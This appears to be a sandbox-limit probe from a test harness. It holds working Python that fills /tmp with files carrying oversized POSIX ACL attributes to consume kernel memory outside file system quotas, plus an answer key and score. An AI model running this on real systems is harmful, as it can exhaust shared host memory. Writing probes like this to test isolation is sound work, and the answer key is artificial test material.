"""Gives each empty file an access list of 64 KiB, which the kernel keeps and no file system counts.

seen: no BREACH: the kernel refuses access lists and attributes.
"""

BEFORE = """
import os, struct, time

entry, nobody = struct.Struct("<HHI"), 0xFFFFFFFF
several = b"".join(entry.pack(2, 4, os.getuid()) for _ in range(8180))
head = struct.pack("<I", 2) + entry.pack(1, 6, nobody)
tail = b"".join(entry.pack(tag, 4, nobody) for tag in (4, 16, 32))
held, begun = 0, time.monotonic()
try:
    while held < 1792 * 2**20 and time.monotonic() - begun < 2.5:
        name = f"/tmp/{held}"
        os.mknod(name)
        os.setxattr(name, "system.posix_acl_access", head + several + tail)
        held += 65536
except OSError:
    pass
if held:
    print("BREACH", held >> 20, "MiB in access lists")
"""
ANSWERS = {"half_area": "half_area = 6.0"}
EARNS = 1
